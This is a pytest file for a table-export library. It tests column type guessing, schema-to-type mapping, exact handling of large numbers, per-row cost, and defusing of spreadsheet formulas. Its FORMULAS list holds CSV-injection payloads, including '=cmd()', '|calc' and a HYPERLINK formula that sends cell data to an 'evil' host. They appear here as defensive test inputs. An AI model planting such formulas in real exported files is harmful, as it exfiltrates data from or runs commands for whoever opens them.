"""Types, guesses and formulas: what is decided before anything is written."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from batchrunner.model import Usage
from batchrunner.prices import PriceList, price
from batchrunner.tables.columns import reader
from batchrunner.tables.defuse import defuse
from batchrunner.tables.digits import Digits, dumps, loads
from batchrunner.tables.guess import TextGuess, ValueGuess, value_of
from batchrunner.tables.schema import answer_columns, type_of
from batchrunner.tables.types import (
    BOOLEAN,
    DATE,
    INSTANT,
    INTEGER,
    JSON,
    NUMBER,
    TEXT,
    TIMESTAMP,
    Type,
    UnfitError,
    fit,
)


@pytest.mark.parametrize(
    ("texts", "expected"),
    [
        (["1", "", "-20", "0"], INTEGER),
        (["1", "007"], TEXT),
        (["-0"], NUMBER),
        (["9223372036854775807"], INTEGER),
        (["9223372036854775808"], TEXT),
        (["1", "1.50"], NUMBER),
        (["1e5", "-2.5E-3"], NUMBER),
        (["1.2345678901234567"], TEXT),
        (["1.", ".5"], TEXT),
        (["+1"], TEXT),
        (["nan"], TEXT),
        (["true", "False", ""], BOOLEAN),
        (["true", "1"], TEXT),
        (["2024-02-29"], DATE),
        (["2023-02-29"], TEXT),
        (["2024-02-29T10:00:00", "2024-02-29 10:00:00.5"], TIMESTAMP),
        (["2024-02-29T10:00:00Z", "2024-02-29T10:00:00+02:00"], INSTANT),
        (["2024-02-29T10:00:00Z", "2024-02-29T10:00:00"], TEXT),
        (["9999-12-31T23:59:59Z", "0001-01-01T00:00:00-01:00"], INSTANT),
        (["9999-12-31T23:59:59-01:00"], TEXT),
        (["0001-01-01T00:00:00+01:00"], TEXT),
        ([" 1"], TEXT),
        (["\u0661"], TEXT),
        (["", ""], TEXT),
        ([], TEXT),
    ],
)
def test_a_column_of_texts_has_the_narrowest_type_that_loses_nothing(texts, expected):
    guess = TextGuess()
    for text in texts:
        guess.add(text)

    assert guess.type == expected


@given(st.lists(st.integers(-(2**63), 2**63 - 1).map(str), min_size=1))
def test_whole_numbers_are_read_back_to_the_digit(texts):
    guess = TextGuess()
    for text in texts:
        guess.add(text)

    assert guess.type == INTEGER
    assert [str(value_of(text, INTEGER)) for text in texts] == texts


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        ([1, None], INTEGER),
        ([1, 1.5], NUMBER),
        ([True, 1], TEXT),
        (["a", 1], TEXT),
        ([[1], {}], JSON),
        ([[1], "a"], TEXT),
        ([2**63], TEXT),
        ([None], TEXT),
    ],
)
def test_a_column_of_values_has_their_type_or_is_text(values, expected):
    guess = ValueGuess()
    for value in values:
        guess.add(value)

    assert guess.type == expected


SCHEMAS = [
    ({"type": "string"}, TEXT),
    ({"type": ["integer", "null"]}, INTEGER),
    ({"type": ["integer", "string"]}, JSON),
    ({"anyOf": [{"type": "number"}, {"type": "null"}]}, NUMBER),
    ({"enum": ["a", "b", None]}, TEXT),
    ({"enum": ["a", 1]}, JSON),
    ({"const": True}, BOOLEAN),
    ({"type": "array", "items": {"type": "string"}}, Type("list", item=TEXT)),
    ({"type": "array"}, Type("list", item=JSON)),
    (
        {"type": "object", "properties": {"a": {"type": "boolean"}}},
        Type("struct", fields=(("a", BOOLEAN),)),
    ),
    ({"type": "object"}, JSON),
    (
        {"type": "object", "properties": {"a": {}}, "additionalProperties": {"type": "string"}},
        JSON,
    ),
    ({"$ref": "#/$defs/Word", "$defs": {"Word": {"type": "string"}}}, TEXT),
    ({"$ref": "https://elsewhere/schema"}, JSON),
    (True, JSON),
]


@pytest.mark.parametrize(("schema", "expected"), SCHEMAS)
def test_a_schema_says_what_a_column_holds(schema, expected):
    assert type_of(schema, schema if isinstance(schema, dict) else {}) == expected


def test_a_schema_that_refers_to_itself_ends_as_json():
    tree = {
        "type": "object",
        "properties": {"name": {"type": "string"}, "child": {"$ref": "#"}},
    }
    name, child = answer_columns(tree)

    assert name.type == TEXT
    assert child.type.name == "struct"


def test_only_an_object_has_columns_of_its_own():
    assert answer_columns({"type": "array"}) is None


@pytest.mark.parametrize(
    ("value", "kind", "expected"),
    [
        (3.0, INTEGER, 3),
        (1, NUMBER, 1.0),
        ([1], JSON, "[1]"),
        (5, TEXT, "5"),
        ([1, None], Type("list", item=INTEGER), [1, None]),
        (
            {"a": 1, "b": 2},
            Type("struct", fields=(("a", INTEGER), ("c", TEXT))),
            {"a": 1, "c": None},
        ),
    ],
)
def test_a_value_is_made_to_fit(value, kind, expected):
    assert fit(value, kind) == expected


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("a", INTEGER),
        (1.5, INTEGER),
        (2**63, INTEGER),
        (float("inf"), INTEGER),
        (float("nan"), INTEGER),
        (True, NUMBER),
        (10**400, NUMBER),
        (1, BOOLEAN),
    ],
)
def test_a_value_of_another_type_is_refused(value, kind):
    with pytest.raises(UnfitError):
        fit(value, kind)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("9223372036854775807", 2**63 - 1),
        ("18446744073709551615", 2**64 - 1),
        ("18446744073709551616", Digits("18446744073709551616")),
        ("0.30000000000000004", 0.1 + 0.2),
        ("0.300000000000000041", Digits("0.300000000000000041")),
        ("1234567890.12345678901", Digits("1234567890.12345678901")),
        ("1e400", Digits("1e400")),
        ("1" * 5000, Digits("1" * 5000)),
        ('["1234567890123456789012"]', ["1234567890123456789012"]),
    ],
)
def test_a_number_that_none_here_can_hold_stays_as_it_is_written(text, expected):
    assert loads(text) == expected
    assert dumps(expected).decode() == text


def test_a_number_is_no_double_only_where_it_is_too_large():
    assert fit(Digits("0.300000000000000041"), NUMBER) == pytest.approx(0.3)
    with pytest.raises(UnfitError, match="1e400 is no number"):
        fit(Digits("1e400"), NUMBER)
    with pytest.raises(UnfitError, match="18446744073709551616 is no integer"):
        fit(Digits("18446744073709551616"), INTEGER)


FORMULAS = [
    "=cmd()",
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "|calc",
    "%0A=1",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b =1",
    "\0=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    '=HYPERLINK("http://evil/?"&A1,"x")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text):
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("text", ["", "a=b", "5", "'=1", "(x)", '{"a":1}', "héllo", "\U0001f600"])
def test_other_texts_stay_as_they_are(text):
    assert defuse(text) == text


@given(st.text())
def test_nothing_but_an_apostrophe_is_ever_added(text):
    assert defuse(text) in {text, "'" + text}
    assert defuse(text).lstrip()[:1] not in set("=+-@|%")


PAID = Usage("gpt-4o-mini", 1_000_000, 0)
INVALID = {"region": "a", "usage": {"model": PAID.model, "prompt": PAID.prompt}}
ANSWERED = {"body": {"model": PAID.model, "usage": {"prompt_tokens": PAID.prompt}}}


@pytest.mark.parametrize(
    ("record", "answers"),
    [
        ({"error": None, "attempts": [{"region": "a"}]}, 1),
        ({"error": None, "attempts": [INVALID, INVALID, {"region": "a"}]}, 3),
        ({"error": {"code": "", "message": ""}, "attempts": [INVALID]}, 1),
        ({"error": {"code": "", "message": ""}, "attempts": [{"region": "a"}]}, 0),
        ({"error": None, "attempts": [], "reused": True}, 0),
    ],
)
def test_a_row_costs_what_was_paid_for_it_also_in_vain(record, answers):
    found = reader(
        None, ["cost_usd"], texts=True, embeddings=False, prices=PriceList({"a": "azure"})
    )

    cells, _ = found.cells({"region": "a", "response": ANSWERED, **record})

    assert cells[-1] == pytest.approx(answers * price(PAID.model, PAID, "azure"))
    assert cells[-1] > 0 or not answers


def test_a_price_that_is_not_known_is_none():
    found = reader(None, ["cost_usd"], texts=True, embeddings=False, prices=PriceList())
    unknown = {"region": "a", "usage": {"model": "my-own", "prompt": 1}}

    cells, _ = found.cells(
        {"region": "a", "error": None, "response": ANSWERED, "attempts": [unknown]}
    )

    assert cells[-1] is None
